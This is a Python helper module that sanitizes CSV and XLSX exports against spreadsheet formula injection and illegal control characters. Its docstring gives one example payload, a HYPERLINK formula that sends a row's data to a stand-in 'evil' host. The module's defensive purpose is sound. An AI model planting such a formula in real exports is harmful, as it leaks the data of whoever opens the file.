"""What every CSV and XLSX this project writes does to a cell value first: one place, for every export.

Two dangers, both from text someone else typed (a course name, an uploaded id):

- **Formula injection.** A spreadsheet program runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and,
  after a leading tab or carriage return, what follows) as a formula: ``=HYPERLINK("http://evil/?"&A2,"点此")``
  in a course name would leak the row of whoever opens the export.  In XLSX such a cell is written as a text
  cell with Excel's quote prefix (shown without the apostrophe, never evaluated, read back by openpyxl as the
  same string); CSV has no cell types, so there the text gets a leading apostrophe (OWASP's advice), which
  :func:`from_csv_cell` takes off again when a CSV is imported, so an export reads back as it was.
- **Control characters** XLSX cannot hold (openpyxl refuses them with ``IllegalCharacterError``): removed, so an
  id typed with a stray control character does not turn an export into a 500.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

__all__ = ["FORMULA_STARTS", "csv_row", "from_csv_cell", "is_formula_like", "xlsx_row"]

#: What a spreadsheet program may take as the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value: Any) -> bool:
    """True for text a spreadsheet program could run as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def xlsx_row(values: Iterable[Any]) -> list[Any]:
    """The values ready for ``Worksheet.append``: text without the control characters XLSX cannot hold, and
    formula-like text as a text cell with the quote prefix (openpyxl would otherwise write ``=…`` as a live
    formula).  openpyxl is imported here, so the CSV helpers cost a reader nothing."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell

    row: list[Any] = []
    for value in values:
        if isinstance(value, str):
            value = ILLEGAL_CHARACTERS_RE.sub("", value)
            if is_formula_like(value):
                cell = Cell(None, value=value)  # type: ignore[arg-type]  # append() binds it to the sheet
                cell.data_type = "s"
                cell.quotePrefix = True
                value = cell
        row.append(value)
    return row


def csv_row(values: Iterable[Any]) -> list[Any]:
    """The values ready for ``csv.writer``: formula-like text behind an apostrophe (numbers stay numbers)."""
    return [f"'{v}" if is_formula_like(v) else v for v in values]


def from_csv_cell(text: str) -> str:
    """The value a CSV cell written by :func:`csv_row` stands for (an apostrophe before formula-like text goes);
    any other text is returned as it is."""
    return text[1:] if text.startswith("'") and is_formula_like(text[1:]) else text
